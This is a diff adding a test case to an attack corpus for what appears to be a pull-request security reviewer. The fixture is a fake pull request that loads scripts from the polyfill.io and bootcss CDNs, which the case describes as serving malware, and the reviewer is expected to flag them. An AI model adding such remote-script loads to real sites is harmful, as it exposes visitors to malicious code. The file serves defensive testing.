@@ -6707,6 +6707,28 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
   },
   {
+    id: 'attack-polyfill-io-cdn-script',
+    description: 'Polyfill.io (June 2024): a PR adds `<script src="https://cdn.polyfill.io/v3/polyfill.min.js">` to the page and a loader that injects a script from cdn.bootcss.com, CDNs whose new owner served malware to visitors.',
+    fixture: () =>
+      attackPr({
+        repo: 'shop-front',
+        number: 73103,
+        title: 'Support older browsers',
+        files: [
+          {
+            path: 'public/index.html',
+            base: lines('<!doctype html>', '<html>', '<head>', '  <title>Shop</title>', '</head>', '</html>'),
+            head: lines('<!doctype html>', '<html>', '<head>', '  <title>Shop</title>', '  <script src="https://cdn.polyfill.io/v3/polyfill.min.js?features=default,fetch"></script>', '</head>', '</html>'),
+          },
+          {
+            path: 'src/legacy.js',
+            head: lines('export function loadJquery() {', "  const s = document.createElement('script');", "  s.src = 'https://cdn.bootcss.com/jquery/3.4.1/jquery.min.js';", '  document.head.appendChild(s);', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['compromised-cdn-script'] },
+  },
+  {
     id: 'attack-js-writes-fetched-code-then-requires',
     description: 'A dead-drop loader that fetches text, writes it to a file in the temporary folder and requires it: eval by way of the module loader, with no eval, Function or vm on any line.',
     fixture: () =>
